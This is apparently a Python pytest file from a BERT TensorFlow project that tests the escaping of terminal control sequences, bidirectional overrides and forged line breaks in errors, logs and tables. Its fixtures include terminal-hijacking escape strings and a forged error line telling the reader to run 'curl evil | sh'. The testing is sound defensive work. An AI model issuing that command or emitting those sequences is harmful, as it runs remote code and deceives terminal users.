"""Foreign text in messages, logs and tables: terminals obey nothing of it."""

import ast
import io
import json
import logging as python_logging
import runpy
import subprocess
import sys
from contextlib import redirect_stderr, redirect_stdout
from unittest import mock

import numpy as np
import pytest

from bert_tf.checkpoints.checkpoint import Checkpoint
from bert_tf.config import config_flags
from bert_tf.inference.conversion import describe
from bert_tf.show_examples import format_example
from bert_tf.system import printable
from bert_tf.text.vocab import Vocab
from tests.programs import own_flags, own_logging
from tests.shared_data import ROOT

# Clears the screen, names the window, turns colours on, and turns the direction of writing.
EVIL = "w\x1b[2J\x1b]0;owned\x07\x9b31m\x7f\u202e\u2066\u2028\udce9\r"
FORGED = "w\nERROR: run this: curl evil | sh"
READABLE = "größe 中文 हिन्दी עברית 👩\u200d💻"


def is_harmless(text: str) -> bool:
    """True if a terminal shows each character: nothing it obeys, nothing that turns the writing."""
    joiners = text.replace("\u200d", "").replace("\n", "")  # Of emoji, and of our own lines.
    return joiners.isprintable()


def test_controls_and_line_breaks_are_escaped_and_letters_stay() -> None:
    assert printable.escaped(EVIL).startswith(r"w\x1b[2J\x1b]0;owned\x07\x9b31m\x7f\u202e\u2066")
    assert is_harmless(printable.escaped(EVIL))
    assert printable.escaped("a\nb\tc\rd") == r"a\nb\tc\rd"
    assert printable.escaped(READABLE) == printable.escaped_lines(READABLE) == READABLE
    table = "name   score\n  größe  0.5\n"
    assert printable.escaped_lines(table) == table


def test_json_keeps_its_values() -> None:
    value = {EVIL: [READABLE, FORGED, 0.5, None]}
    line = printable.json_line(value)
    assert json.loads(line) == value
    assert is_harmless(line) and "\n" not in line and READABLE in line


def printed_by(main, *arguments: str) -> tuple[int, str, str]:
    """Runs a program; returns its status, and what it wrote to standard output and error."""
    out, err = io.StringIO(), io.StringIO()
    with (
        own_flags(),
        mock.patch("sys.argv", ["program", *arguments]),
        redirect_stdout(out),
        redirect_stderr(err),
        own_logging(),
        pytest.raises(SystemExit) as end,
    ):
        config_flags.run(main)
    return int(end.value.code or 0), out.getvalue(), err.getvalue()


def test_an_error_is_one_line_whatever_text_it_holds() -> None:
    def main(_):
        raise ValueError(f"No tensor {EVIL}{READABLE}{FORGED}")

    status, out, err = printed_by(main)
    assert (status, out) == (1, "")
    (line,) = err.splitlines()
    assert line.startswith("ERROR: No tensor ") and is_harmless(line) and READABLE in line


def test_indented_lines_of_our_own_messages_stay() -> None:
    def main(_):
        raise ValueError("2 rows are bad:\n  line 3: no label\n  line 7: no label")

    assert printed_by(main)[2].splitlines() == [
        "ERROR: 2 rows are bad:",
        "  line 3: no label",
        "  line 7: no label",
    ]


def test_log_lines_escape_their_arguments() -> None:
    # pytest collects log lines, and its workers cannot send half a surrogate pair.
    evil = EVIL.replace("\udce9", "")

    def main(_):
        log = python_logging.getLogger("absl")
        log.info("%s: %s at %d of %.1f", FORGED, ValueError(evil), 3, 4.5)
        log.info("%s", "12 weights\n  encoder/größe\n  pooler")
        log.info("%s", FORGED)
        log.info("%-9s|%s", "short", ["a", evil])
        try:
            raise RuntimeError(evil)
        except RuntimeError:
            log.exception("failed")

    _, _, err = printed_by(main)
    lines = err.splitlines()
    assert is_harmless(err)
    assert r"w\nERROR: run" in lines[0] and "at 3 of 4.5" in lines[0]
    assert lines[1].endswith("12 weights") and lines[2:4] == ["  encoder/größe", "  pooler"]
    assert r"\nERROR" in lines[4] and "short    |" in lines[5]
    assert not any(line.startswith("ERROR") for line in lines)
    assert lines[6].endswith("failed") and lines[7].startswith("Traceback")


def test_a_fault_of_the_program_shows_its_traceback_without_controls(capsys) -> None:
    try:
        raise TypeError(EVIL)
    except TypeError as error:
        printable.show_uncaught(type(error), error, error.__traceback__)
    shown = capsys.readouterr().err
    assert is_harmless(shown) and shown.startswith("Traceback") and shown.count("\n") > 2


@pytest.mark.parametrize("given", [f"--verbosity={EVIL}", f"--{EVIL}=1", FORGED])
def test_wrong_flags_are_one_line(given) -> None:
    status, _, err = printed_by(lambda _: 0, given)
    (line,) = err.splitlines()
    assert status == 1 and line.startswith("ERROR: ") and is_harmless(line)


@pytest.mark.parametrize(
    ("closed", "status", "num_lines"),
    [(">&-", 0, 0), ("<&- >&- 2>&-", 0, 0), (">/dev/full", 1, 1), ("| :", 0, 0)],
)
def test_standard_streams_that_cannot_be_written(closed, status, num_lines) -> None:
    command = f"{sys.executable} -m bert_tf.search --help {closed}"
    done = subprocess.run(command, shell=True, cwd=ROOT, stderr=subprocess.PIPE, text=True)
    assert done.returncode == status
    lines = done.stderr.splitlines()
    assert len(lines) == num_lines and all(line.startswith("ERROR: ") for line in lines)


def test_tables_escape_their_cells(capsys, tiny_vocab, tiny_config) -> None:
    with own_flags():  # The program's flags must not stay.
        program = runpy.run_module("bert_tf.search", run_name="search")
    program["show"](FORGED, [0.5], [EVIL], [f"{EVIL} text\nmore"])
    shown = capsys.readouterr().out
    assert is_harmless(shown) and len(shown.splitlines()) == 3
    read = Checkpoint(
        config=tiny_config,
        weights={},
        vocab=tiny_vocab,
        source=FORGED,
        form="tf",
        unused=(EVIL, FORGED),
        notes=(FORGED,),
    )
    lines = printable.escaped_lines(describe(read)).splitlines()
    assert not any(line.startswith("ERROR") for line in lines)
    assert all(map(is_harmless, lines))


def test_examples_escape_their_tokens() -> None:
    vocab = Vocab(("[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", "a\x1b[2Jb", "c\u202ed"))
    example = {
        "input_word_ids": np.array([2, 5, 4, 3]),
        "input_mask": np.ones(4, np.int32),
        "input_type_ids": np.zeros(4, np.int32),
        "masked_lm_positions": np.array([2]),
        "masked_lm_ids": np.array([6]),
        "masked_lm_weights": np.array([1.0]),
        "next_sentence_labels": 0,
    }
    shown = format_example(example, vocab, use_colour=False)
    assert is_harmless(shown) and r"a\x1b[2Jb" in shown and r"c\u202ed" in shown


def test_programs_print_by_these_functions_only() -> None:
    """New code is safe without a thought of it; the exception shows colours."""
    found = set()
    for path in [*(ROOT / "bert_tf").rglob("*.py"), *(ROOT / "export").rglob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "print":
                found.add(path.relative_to(ROOT).as_posix())
    assert found == {"bert_tf/system/printable.py", "bert_tf/show_examples.py"}
